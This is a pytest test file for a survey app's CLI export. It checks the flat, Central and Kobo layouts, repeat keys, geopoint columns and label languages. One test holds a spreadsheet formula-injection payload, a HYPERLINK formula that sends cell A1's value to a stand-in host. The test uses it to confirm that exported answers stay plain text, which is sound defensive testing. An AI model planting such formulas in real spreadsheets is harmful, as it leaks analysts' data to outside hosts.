"""Responses with repeats exported through the real CLI in the flat, Central and Kobo layouts."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from neascn_desktop.store import open_database
from neascn_desktop.surveys import service

from ..surveys.conftest import CITIES, MINI
from ..surveys.test_answer_tree import PIPELINE


def _json(cli, *args):
    code, out, err = cli(*args, "--json")
    assert code == 0, err
    return json.loads(out)


@pytest.fixture
def answered(tmp_path: Path, cli) -> Path:
    """Two finalized responses: 2 projects (the first with 2 partners) and 1 project."""
    folder = tmp_path / "field"
    code, _out, err = cli("--data-dir", folder, "init", "--name", "Enumerator", "--role", "field")
    assert code == 0, err
    db = open_database(folder)
    try:
        service.ensure_builtin(db, [MINI, PIPELINE], CITIES)
    finally:
        db.dispose()
    d = ("--data-dir", folder)
    first = _json(cli, *d, "response", "new", "--city", "Seoul", "--form", "pipeline")["id"]
    _json(cli, *d, "response", "set", first, "city_name=Seoul", "project_count=0",
          "projects[+]/name=Bus rapid transit", "projects[1]/sector=transport",
          "projects[1]/stage=financed", "projects[1]/budget=1200000",
          "projects[1]/partners[+]/partner_name=ADB", "projects[1]/partners[1]/share=60",
          "projects[1]/partners[+]/partner_name=City", "projects[1]/partners[2]/share=40",
          "projects[+]/name=District heating", "projects[2]/sector=energy")
    second = _json(cli, *d, "response", "new", "--city", "Busan", "--form", "pipeline")["id"]
    _json(cli, *d, "response", "set", second, "city_name=Busan", "project_count=0",
          "projects[+]/name=Smart water", "projects[1]/sector=water")
    for rid in (first, second):
        code, _out, err = cli(*d, "response", "finalize", rid)
        assert code == 0, err
    return folder


def _export(cli, folder: Path, out: Path, *extra: str) -> dict:
    return _json(cli, "--data-dir", folder, "response", "export", "--form", "pipeline",
                 "-o", out, *extra)


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_central_csv_zip_has_one_file_per_repeat_joined_by_key(answered, cli, tmp_path) -> None:
    result = _export(cli, answered, tmp_path / "pipeline.zip", "--layout", "central")
    assert result["rows"] == 2 and result["layout"] == "central"
    with zipfile.ZipFile(tmp_path / "pipeline.zip") as archive:
        names = sorted(archive.namelist())
        assert names == ["pipeline-partners.csv", "pipeline-projects.csv", "pipeline-visits.csv",
                         "pipeline.csv"]
        main = _rows(archive.read("pipeline.csv").decode())
        projects = _rows(archive.read("pipeline-projects.csv").decode())
        partners = _rows(archive.read("pipeline-partners.csv").decode())
    assert [r["city_name"] for r in main] == ["Seoul", "Busan"] or \
        sorted(r["city_name"] for r in main) == ["Busan", "Seoul"]
    keys = {r["city_name"]: r["KEY"] for r in main}
    assert all(k.startswith("uuid:") for k in keys.values())
    seoul = [p for p in projects if p["PARENT_KEY"] == keys["Seoul"]]
    assert [p["name"] for p in seoul] == ["Bus rapid transit", "District heating"]
    assert seoul[0]["KEY"] == f"{keys['Seoul']}/projects[1]"
    assert seoul[0]["details-note_text"] == ""  # a group inside the repeat: joined by '-'
    assert [(p["partner_name"], p["share"], p["PARENT_KEY"]) for p in partners] == [
        ("ADB", "60", seoul[0]["KEY"]), ("City", "40", seoul[0]["KEY"])]
    assert partners[1]["KEY"] == f"{seoul[0]['KEY']}/partners[2]"
    assert list(main[0])[:5] == ["SubmissionDate", "start", "end", "city_id", "city_name"]


def test_kobo_xlsx_has_one_sheet_per_repeat_joined_by_index(answered, cli, tmp_path) -> None:
    _export(cli, answered, tmp_path / "pipeline.xlsx", "--layout", "kobo")
    book = load_workbook(tmp_path / "pipeline.xlsx", read_only=True)
    assert book.sheetnames == ["pipeline", "projects", "partners", "visits"]

    def table(name: str) -> list[dict]:
        rows = list(book[name].iter_rows(values_only=True))
        return [dict(zip(rows[0], row, strict=False)) for row in rows[1:]]

    main, projects, partners = table("pipeline"), table("projects"), table("partners")
    by_index = {r["_index"]: r for r in main}
    assert sorted(by_index) == [1, 2]
    assert len(projects) == 3 and [p["_index"] for p in projects] == [1, 2, 3]
    for project in projects:
        parent = by_index[project["_parent_index"]]
        assert project["_parent_table_name"] == "pipeline"
        assert project["_submission__uuid"] == parent["_uuid"]
    brt = next(p for p in projects if p["name"] == "Bus rapid transit")
    assert brt["budget"] == 1200000 and brt["sector"] == "transport" and brt["stage"] == "financed"
    assert [(p["partner_name"], p["_parent_index"], p["_parent_table_name"]) for p in partners] \
        == [("ADB", brt["_index"], "projects"), ("City", brt["_index"], "projects")]


def test_flat_numbers_the_instances_in_columns(answered, cli, tmp_path) -> None:
    result = _export(cli, answered, tmp_path / "flat.csv")
    assert result["layout"] == "flat" and result["files"] == [
        str(tmp_path / "flat.csv"), str(tmp_path / "flat.codebook.csv")]
    codebook = _rows((tmp_path / "flat.codebook.csv").read_text(encoding="utf-8"))
    header = (tmp_path / "flat.csv").read_text(encoding="utf-8").splitlines()[0].split(",")
    assert [r["column"] for r in codebook] == header
    rows = _rows((tmp_path / "flat.csv").read_text(encoding="utf-8"))
    seoul = next(r for r in rows if r["city_name"] == "Seoul")
    assert seoul["projects[1]/name"] == "Bus rapid transit"
    assert seoul["projects[2]/name"] == "District heating"
    assert seoul["projects[1]/partners[2]/partner_name"] == "City"
    assert seoul["projects[1]/partners[2]/share"] == "40"
    busan = next(r for r in rows if r["city_name"] == "Busan")
    assert busan["projects[2]/name"] == "" and busan["projects[1]/partners[1]/share"] == ""
    assert "projects[3]/name" not in seoul  # as many instances as the largest response has


def test_labels_in_a_language_and_csv_files_beside_the_main_one(answered, cli, tmp_path) -> None:
    _export(cli, answered, tmp_path / "kobo.csv", "--layout", "kobo", "--labels", "ko")
    projects = _rows((tmp_path / "kobo-projects.csv").read_text(encoding="utf-8"))
    assert "Sector (ko)" in projects[0]
    assert {p["Sector (ko)"] for p in projects} >= {"Transport (ko)"}
    code, out, err = cli("--data-dir", answered, "response", "export", "--form", "pipeline",
                         "-o", tmp_path / "x.csv", "--labels", "xx")
    assert code == 2 and out == "" and "no labels in “xx”" in err
    assert not (tmp_path / "x.csv").exists()


def test_a_folder_gets_one_file_per_table(answered, cli, tmp_path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    _export(cli, answered, folder, "--layout", "central", "--format", "csv")
    assert sorted(p.name for p in folder.iterdir()) == [
        "pipeline-partners.csv", "pipeline-projects.csv", "pipeline-visits.csv", "pipeline.csv"]


def test_forms_without_repeats_keep_the_flat_export_byte_for_byte(answered, cli, tmp_path) -> None:
    # The built-in layout of a form without repeats is the one it always had.
    code, _out, err = cli("--data-dir", answered, "response", "export", "--form", "mini",
                          "-o", tmp_path / "mini.csv")
    assert code == 0, err
    header = (tmp_path / "mini.csv").read_text(encoding="utf-8").splitlines()[0]
    assert header.startswith("start,end,city_id,city_name,")
    assert (tmp_path / "mini.codebook.csv").exists()


def test_geopoints_split_and_multiple_choices_as_0_1_columns(tmp_path) -> None:
    from neascn_desktop.reports.layout_export import write_layout
    from neascn_desktop.surveys.definition import definition_from_dict

    definition = definition_from_dict({
        "format": 2, "form_id": "sites", "version": "1", "title": {"en": "Sites"},
        "choice_lists": {"uses": [{"name": "bus", "label": {"en": "Bus"}},
                                  {"name": "rail", "label": {"en": "Rail"}}]},
        "children": [{"name": "site", "type": "repeat", "label": {"en": "Site"}, "children": [
            {"name": "where", "type": "geopoint", "label": {"en": "Where"}},
            {"name": "uses", "type": "select_multiple", "choices": "uses",
             "label": {"en": "Uses"}},
        ]}],
    })
    payload = {"status": "finalized", "answers": {"site": [
        {"@id": "0f8e1c3a-6b7d-4c55-9a43-2b1d07d2a0c1", "where": "37.5 127.0 38 5",
         "uses": ["bus", "rail"]},
        {"@id": "6a0d2c8e-1f4b-4e1a-8f57-0c7e0f3b9d22", "uses": ["rail"]}]}}
    out = tmp_path / "sites.zip"
    write_layout(definition, lambda: [("s1", payload)], out, "csv", "central")
    with zipfile.ZipFile(out) as archive:
        sites = _rows(archive.read("sites-site.csv").decode())
    assert sites[0]["where-Latitude"] == "37.5" and sites[0]["where-Accuracy"] == "5"
    assert (sites[0]["uses"], sites[0]["uses-bus"], sites[0]["uses-rail"]) == ("bus rail", "1", "1")
    assert (sites[1]["where-Latitude"], sites[1]["uses-bus"]) == ("", "0")
    write_layout(definition, lambda: [("s1", payload)], tmp_path / "k.xlsx", "xlsx", "kobo")
    rows = list(load_workbook(tmp_path / "k.xlsx", read_only=True)["site"].iter_rows(
        values_only=True))
    header = rows[0]
    first = dict(zip(header, rows[1], strict=False))  # openpyxl drops trailing empty cells
    assert first["_where_latitude"] == 37.5 and first["_where_precision"] == 5.0
    assert first["uses/rail"] == 1 and first["_submission__uuid"] == "s1"


@pytest.mark.parametrize("layout", ["flat", "kobo"])
def test_answers_starting_with_equals_stay_text_in_xlsx(tmp_path, layout: str) -> None:
    """A text answer from a package must never become a formula in the analyst's Excel."""
    from neascn_desktop.reports.layout_export import write_layout
    from neascn_desktop.surveys.definition import definition_from_dict

    definition = definition_from_dict({
        "format": 2, "form_id": "f", "version": "1", "title": {"en": "F"},
        "children": [{"name": "note", "type": "text", "label": {"en": "Note"}},
                     {"name": "r", "type": "repeat", "label": {"en": "R"}, "children": [
                         {"name": "t", "type": "text", "label": {"en": "T"}}]}],
    })
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    payload = {"answers": {"note": evil, "r": [
        {"@id": "0f8e1c3a-6b7d-4c55-9a43-2b1d07d2a0c1", "t": evil, "odd": {"x": 1}}]}}
    out = tmp_path / "f.xlsx"
    write_layout(definition, lambda: [("s", payload)], out, "xlsx", layout)
    book = load_workbook(out)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
             if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)


def test_the_flat_export_of_a_form_without_repeats_keeps_formulas_out_too(tmp_path) -> None:
    from neascn_desktop.reports.data_export import write_xlsx
    from neascn_desktop.surveys.definition import load_definition

    from ..surveys.conftest import MINI

    definition = load_definition(MINI)
    payload = {"answers": {"officer": "=1+1"}}
    write_xlsx(definition, [("s", payload)], tmp_path / "m.xlsx")
    sheet = load_workbook(tmp_path / "m.xlsx").worksheets[0]
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == "=1+1")
    assert cell.data_type == "s"


def test_a_name_used_in_two_groups_is_exported_under_its_path(tmp_path) -> None:
    from neascn_desktop.reports.data_export import write_csv
    from neascn_desktop.surveys.definition import definition_from_dict

    definition = definition_from_dict({
        "format": 2, "form_id": "twice", "version": "1", "title": {"en": "Twice"},
        "children": [
            {"name": "mother", "type": "group", "label": {"en": "Mother"}, "children": [
                {"name": "age", "type": "integer", "label": {"en": "Age"}}]},
            {"name": "father", "type": "group", "label": {"en": "Father"}, "children": [
                {"name": "age", "type": "integer", "label": {"en": "Age"}}]},
        ],
    })
    keys = [q.key for q in definition.questions]
    assert keys == ["mother/age", "father/age"]
    payload = {"answers": {"mother/age": 41, "father/age": 45}}
    result = write_csv(definition, [("s", payload)], tmp_path / "t.csv")
    row = _rows((tmp_path / "t.csv").read_text(encoding="utf-8"))[0]
    assert (row["mother/age"], row["father/age"]) == ("41", "45")
    assert result.codebook_path is not None and result.codebook_path.is_file()
